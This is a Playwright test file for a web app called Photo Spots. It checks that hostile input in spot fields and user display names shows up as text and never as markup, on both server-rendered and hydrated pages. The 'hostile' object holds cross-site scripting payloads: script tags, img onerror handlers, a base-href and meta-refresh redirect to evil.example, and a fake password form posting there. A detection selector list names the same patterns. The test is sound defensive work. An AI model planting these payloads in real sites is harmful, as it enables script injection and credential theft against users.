// Hostile strings in the places a person can type them (a spot's fields, a
// display name) are shown as text on every page that shows them: they never
// become markup. The server-rendered HTML is parsed by Chromium's own HTML
// parser (DOMParser, which runs no scripts) and compared, element by
// element and attribute by attribute, with the same page rendered from
// harmless strings of the same shape: any difference is markup that the
// input, not the page, wrote. Once found in <title>, which leptos_meta wrote
// unescaped.
import { expect, Page, test } from '@playwright/test';
import { logInAs, useServer } from './helpers';

const server = useServer();
const url = (path: string) => `${server().baseURL}${path}`;

const SLUG = 'hostile-corner';

/** What an attacker with an admin account (or any account, for the name) would type. */
const hostile = {
  name: '</title><script>alert(1)</script>"><img src=x onerror=alert(2)>',
  place: '<base href=//evil.example/><!-- </script>',
  best_light: '<meta http-equiv=refresh content="0;url=//evil.example">',
  note: "</p><form action=//evil.example><input name=password>\n<!-- ' onmouseover='alert(3)",
  admin: '</title><img src=x onerror=alert(4)><!--',
};

/** The same fields, harmless, with the same number of lines. */
const harmless = {
  name: 'Quiet corner',
  place: 'Somewhere, Iceland',
  best_light: 'Late afternoon',
  note: 'First line\nSecond line',
  admin: 'Ada',
};

type Fields = typeof hostile;

async function call(method: string, path: string, token: string, body: unknown): Promise<number> {
  const response = await fetch(url(path), {
    method,
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify(body),
  });
  return response.status;
}

/** Ada's name and the spot's fields set to `fields`, through the JSON API. */
async function write(fields: Fields, token: string, create: boolean): Promise<void> {
  expect(await call('POST', '/api/update_name', token, { name: fields.admin })).toBe(200);
  const spot = { name: fields.name, place: fields.place, best_light: fields.best_light, note: fields.note };
  const status = create
    ? await call('POST', '/api/admin/spots', token, { slug: SLUG, ...spot })
    : await call('PUT', `/api/admin/spots/${SLUG}`, token, spot);
  expect(status).toBe(create ? 201 : 200);
}

/**
 * The shape of a server-rendered page as Chromium parses it: every element
 * with its attribute names, and every comment, in document order. Leptos'
 * preloads of the bundle's own chunks are left out: how many it writes
 * depends on what the server has served before, not on the page's data.
 */
async function ssrShape(page: Page, path: string): Promise<{ shape: string[]; title: string; h1: string[] }> {
  const html = await (await fetch(url(path))).text();
  return page.evaluate((source) => {
    const doc = new DOMParser().parseFromString(source, 'text/html');
    const walker = doc.createTreeWalker(doc, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT);
    const shape: string[] = [];
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (node.nodeType === Node.COMMENT_NODE) {
        shape.push(`<!--${node.textContent === '' ? '' : '…'}-->`);
      } else {
        const element = node as Element;
        const bundlePreload =
          element.tagName === 'LINK' &&
          /^(modulepreload|preload)$/.test(element.getAttribute('rel') ?? '') &&
          (element.getAttribute('href') ?? '').startsWith('/pkg/');
        if (bundlePreload) continue;
        shape.push(`<${element.tagName.toLowerCase()} ${element.getAttributeNames().sort().join(' ')}>`);
      }
    }
    return {
      shape,
      title: doc.title,
      h1: Array.from(doc.querySelectorAll('h1, .spot h2, .spot h3')).map((h) => h.textContent ?? ''),
    };
  }, html);
}

/** Nothing in the live page that only the input could have put there. */
async function expectNoInjectedMarkup(page: Page): Promise<void> {
  const injected = await page.evaluate(() =>
    Array.from(
      document.querySelectorAll(
        'base, meta[http-equiv], img[onerror], [onmouseover], form[action*="evil"], input[name="password"], script:not([src]):not([nonce])',
      ),
    ).map((element) => element.outerHTML),
  );
  expect(injected).toEqual([]);
}

test('hostile spot fields and a hostile name are text on every page, never markup', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  await logInAs(page, server().baseURL, 'ada');
  // The writes go through the JSON API as a mobile app sends them: a
  // bearer token from a login without a DPoP proof (the page's own token
  // is bound to the browser's key).
  const token = (await server().api('/api/login', { username: 'ada', password: 'ada-password' })).body.token;
  const pages = ['/', `/spots/${SLUG}`];

  await write(harmless, token, true);
  const expected = await Promise.all(pages.map((path) => ssrShape(page, path)));
  await write(hostile, token, false);
  const actual = await Promise.all(pages.map((path) => ssrShape(page, path)));

  pages.forEach((path, n) => {
    expect.soft(actual[n].shape, `the elements and attributes of ${path}`).toEqual(expected[n].shape);
  });
  const spotPage = actual[1];
  expect(spotPage.title).toBe(`${hostile.name} · Photo Spots`);
  expect(spotPage.h1).toContain(hostile.name);

  // The live pages, after hydration and client-side rendering, with a new
  // log-in so that the token (which the page reads the name from) carries
  // the hostile name too.
  await logInAs(page, server().baseURL, 'ada');
  await page.goto(url('/'));
  await expect(page.getByText(hostile.name, { exact: true }).first()).toBeVisible();
  await expectNoInjectedMarkup(page);

  await page.goto(url(`/spots/${SLUG}`));
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(hostile.name);
  await expect(page).toHaveTitle(`${hostile.name} · Photo Spots`);
  await expect(page.getByText(hostile.place, { exact: true })).toBeVisible();
  await expect(page.getByText(`Added by ${hostile.admin} on`)).toBeVisible();
  await expectNoInjectedMarkup(page);

  await page.goto(url('/profile'));
  await expect(page.getByTestId('profile-name')).toHaveText(hostile.admin);
  await expect(page.getByTestId('nav-user')).toHaveText(hostile.admin);
  await expectNoInjectedMarkup(page);

  await page.goto(url('/admin'));
  await expect(page.locator(`.admin-spot[data-slug="${SLUG}"]`)).toContainText(hostile.name);
  await expectNoInjectedMarkup(page);

  expect(dialogs).toEqual([]);
});
